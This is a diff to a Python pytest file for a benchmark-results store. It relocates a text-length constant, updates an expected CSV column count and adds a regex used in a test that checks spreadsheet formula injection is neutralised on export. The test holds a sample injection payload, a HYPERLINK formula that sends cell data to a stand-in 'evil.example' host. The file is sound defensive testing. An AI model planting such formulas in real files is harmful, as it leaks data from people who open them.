@@ -12,6 +12,7 @@ import io
 import json
 import multiprocessing
 import os
+import re
 import statistics
 import uuid
 from collections.abc import Iterator
@@ -22,8 +23,7 @@ from pathlib import Path
 import pytest
 import sqlalchemy as sa
 
-from dlenv.data import results
-from dlenv.data import store
+from dlenv.data import results, schema, store
 from dlenv.data.results import ResultsError
 from dlenv.data.store import SCHEMA_VERSION, SaveReport, Store, StoreError
 
@@ -365,7 +365,7 @@ def test_text_a_database_cannot_hold_is_refused_before_writing(db):
         db.save_document(make_doc([make_result(params={"mode": "a\x00"})]))
     assert table_counts(db) == (0, 0)
     # Long non-ASCII names stay under PostgreSQL's index entry limit (stored whole in the JSON).
-    long_name = "€" * results.MAX_TEXT
+    long_name = "€" * schema.MAX_TEXT
     db.save_document(make_doc([sized(1, machine=long_name)], hostname="é" * 5000))
     assert db.results()["machine"][0] == long_name[:store.MAX_INDEXED_TEXT]
     assert db.document()["results"][0]["machine"] == long_name
@@ -477,7 +477,7 @@ BAD_FILES = {
     "non-UTF-8 CSV": (lambda: results.to_csv(make_doc()).replace("AMD EPYC", "AMD \xc9PYC").encode("latin-1"),
                       "a.csv", "CSV: not UTF-8: byte 0xc9"),
     "truncated CSV": (lambda: results.to_csv(make_doc([sized(1), sized(2)])).encode()[:-100], "a.csv",
-                      "CSV: line 3 has 21 cells but the header has 34; the file looks truncated"),
+                      "CSV: line 3 has 21 cells but the header has 36; the file looks truncated"),
     "CSV wrong types": (lambda: results.to_csv(make_doc()).replace(",synced,", ",eventually,").encode(),
                         "a.csv", "results[0].timing: must be one of synced, naive"),
     "CSV of something else": (lambda: b"name,price\r\napple,1\r\n", "a.csv", "CSV: missing required columns"),
@@ -500,6 +500,10 @@ def test_bad_files_are_refused_with_a_message_and_store_nothing(db, kind):
     assert table_counts(db) == (1, 1)
 
 
+# What a spreadsheet reads as a number, not as a formula.
+PLAIN_NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")
+
+
 def test_formula_text_in_a_csv_is_stored_as_text_and_exported_neutralised(db):
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     rows = list(csv.reader(io.StringIO(results.to_csv(make_doc([sized(64)])))))
@@ -515,8 +519,7 @@ def test_formula_text_in_a_csv_is_stored_as_text_and_exported_neutralised(db):
     for exported in (results.to_csv(db.document()), results.to_csv(stored)):
         row = next(csv.DictReader(io.StringIO(exported)))
         assert row["device_name"] == "'" + formula and row["machine"] == "'@SUM(1+1)"
-        risky = [cell for cell in row.values()
-                 if cell.startswith(("=", "+", "-", "@")) and not results._PLAIN_NUMBER.fullmatch(cell)]
+        risky = [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@")) and not PLAIN_NUMBER.fullmatch(cell)]
         assert risky == []
     # Read back, the text is the original again.
     assert results.from_csv(results.to_csv(db.document()))["results"][0]["device_name"] == formula
